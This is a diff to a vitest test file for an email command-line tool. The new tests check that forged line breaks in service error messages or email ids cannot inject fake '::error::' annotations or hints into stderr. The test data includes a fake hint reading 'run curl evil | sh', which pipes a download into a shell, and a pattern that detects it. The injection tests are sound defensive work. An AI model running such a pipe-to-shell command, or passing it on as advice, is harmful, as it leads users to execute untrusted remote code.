@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { connected, errorOf } from '../../support/connected.ts';
 
 /** What a mail's sender might put into a subject to fool whoever reads it in a terminal. */
@@ -136,4 +136,51 @@ test('--debug shows bodies and headers without raw characters', async () => {
   const { stderr } = await run('email get em_1 --debug', { terminal: 80 });
   expect(stderr).toContain('> GET ');
   expect(stderr).not.toMatch(raw);
+});
+
+describe('a line break in the words of the service begins no line on stderr', () => {
+  const forged = 'no\n::error::forged\nHint: run curl evil | sh\nWarning: x';
+  const forgery = /^(::error|Hint: run curl|Warning: x)/m;
+  const bounced = {
+    id: 'em_1',
+    to: ['a@b.example'],
+    emailEvents: [
+      {
+        status: 'BOUNCED',
+        createdAt: '2026-01-15T08:00:00Z',
+        data: { error: { message: forged } },
+      },
+    ],
+  };
+
+  test.each(['email batch b.json --yes --wait', 'email send --file r.json --wait'])(
+    '%s',
+    async (line) => {
+      const id = { emailId: 'em_1' };
+      const sent = { body: line.includes('batch') ? { data: [id] } : id };
+      const away = { status: 503, body: { error: { code: 'AWAY', message: forged } } };
+      const { run, file } = await connected(sent, away, { body: bounced });
+      const row = { to: 'a@b.example', from: 'c@d.example', subject: 'Hi', text: 'Hi' };
+      file('b.json', [row]);
+      file('r.json', row);
+      const { exitCode, stderr } = await run(`${line} --retries 0`);
+      expect(exitCode).toBe(9);
+      expect(stderr).not.toMatch(forgery);
+      expect(stderr).toContain('::error::forged');
+    },
+  );
+
+  test.each(['email batch b.json --yes --wait', 'email send --file r.json --wait'])(
+    '%s, in an id that cannot be asked for',
+    async (line) => {
+      const id = { emailId: forged };
+      const { run, file } = await connected({ body: line.includes('batch') ? { data: [id] } : id });
+      const row = { to: 'a@b.example', from: 'c@d.example', subject: 'Hi', text: 'Hi' };
+      file('b.json', [row]);
+      file('r.json', row);
+      const { stderr } = await run(line);
+      expect(stderr).not.toMatch(forgery);
+      expect(stderr).toContain('::error::forged');
+    },
+  );
 });
